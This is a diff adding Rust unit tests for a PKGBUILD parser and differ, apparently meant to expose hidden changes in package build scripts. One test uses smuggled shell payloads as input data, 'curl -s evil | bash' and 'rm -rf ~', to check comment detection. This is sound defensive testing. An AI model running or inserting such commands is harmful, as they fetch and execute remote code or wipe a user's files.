@@ -0,0 +1,122 @@
+use super::*;
+
+fn assignment(name: &str, value: &str) -> Item {
+    Item::Assignment {
+        name: name.to_owned(),
+        value: value.to_owned(),
+    }
+}
+
+#[test]
+fn check_scan_line() {
+    let scan = scan_line("a=('(' \"#\" b) # c");
+    assert_eq!(scan.parens, 0);
+    assert_eq!(scan.comment, Some(14));
+
+    let scan = scan_line("echo ${#a} $((");
+    assert_eq!((scan.parens, scan.braces, scan.comment), (2, 0, None));
+
+    assert_eq!(
+        scan_line("cat <<-'EOF' > x").heredoc.as_deref(),
+        Some("EOF")
+    );
+    assert_eq!(scan_line("grep x <<< \"$a\"").heredoc, None);
+    assert_eq!(scan_line("echo $((1<<2))").heredoc, None);
+}
+
+#[test]
+fn scan_hidden_comments() {
+    // Only unescaped hashes starting a word start comments
+    assert_eq!(
+        scan_line("pkgver=1.1\\ #$(curl -s evil|bash)").comment,
+        None
+    );
+    assert_eq!(scan_line("pkgdesc='x'\\ #; rm -rf ~").comment, None);
+    assert_eq!(scan_line("a=b\\\\ # c").comment, Some(6));
+
+    // Backslashes escape quotes in ANSI-C quotes
+    assert_eq!(
+        scan_line("pkgdesc=$'a\\' #'; curl -s evil | bash").comment,
+        None
+    );
+    assert_eq!(scan_line("pkgdesc=$'a\\'' # c").comment, Some(15));
+    assert_eq!(scan_line("a='\\' # c").comment, Some(6));
+    assert_eq!(
+        split_statements("pkgdesc=$'a\\' #'; curl -s evil | bash"),
+        vec!["pkgdesc=$'a\\' #'", "curl -s evil | bash"]
+    );
+}
+
+#[test]
+fn parse_pkgbuild() {
+    let src = "# Maintainer: foo <foo=bar>\n\
+               pkgname=foo\n\
+               pkgver=1.2; pkgrel=1\n\
+               depends=('a'\n  'b') # deps\n\
+               [[ $CARCH == x86_64 ]] && depends+=('c')\n\
+               build() {\n\
+               \tcd \"$srcdir\" # enter\n\
+               \tcat > foo.conf <<EOF\n\
+               pkgver=}\n\
+               EOF\n\
+               }\n\
+               \n\
+               package()\n\
+               {\n\
+               \tinstall -Dm755 foo \"$pkgdir/usr/bin/foo\"\n\
+               }\n";
+
+    let items = parse(src);
+    assert_eq!(
+        items[..4],
+        [
+            assignment("pkgname", "foo"),
+            assignment("pkgver", "1.2"),
+            assignment("pkgrel", "1"),
+            assignment("depends", "('a' 'b')"),
+        ]
+    );
+    assert_eq!(
+        items[4],
+        Item::Command("[[ $CARCH == x86_64 ]] && depends+=('c')".to_owned())
+    );
+    assert_eq!(
+        items[5],
+        Item::Function {
+            name: "build".to_owned(),
+            body: "cd \"$srcdir\"\ncat > foo.conf <<EOF\npkgver=}\nEOF\n}".to_owned(),
+        }
+    );
+    assert!(matches!(items[6], Item::Function { ref name, .. } if name == "package"));
+    assert_eq!(items.len(), 7);
+}
+
+#[test]
+fn diff_pkgbuilds() {
+    let old = parse("pkgver=1\nsha256sums=('a')\nvalidpgpkeys=('X')\nbuild() {\nmake\n}\n");
+    let new = parse("pkgver=2\nsha256sums=('a')\nbuild() {\nmake -j1\n}\necho hi\n");
+
+    assert_eq!(
+        diff(&old, &new),
+        vec![
+            Change::Variable {
+                name: "pkgver",
+                old: Some("1".to_owned()),
+                new: Some("2".to_owned()),
+            },
+            Change::Variable {
+                name: "validpgpkeys",
+                old: Some("('X')".to_owned()),
+                new: None,
+            },
+            Change::Function("build"),
+            Change::Command("echo hi"),
+        ]
+    );
+
+    // Reformatting doesn't change anything
+    let wrapped = parse(
+        "pkgver=1\nsha256sums=(\n  'a'\n)\nvalidpgpkeys=('X') # key\nbuild()\n{\n  make\n}\n",
+    );
+    assert!(diff(&old, &wrapped).is_empty());
+}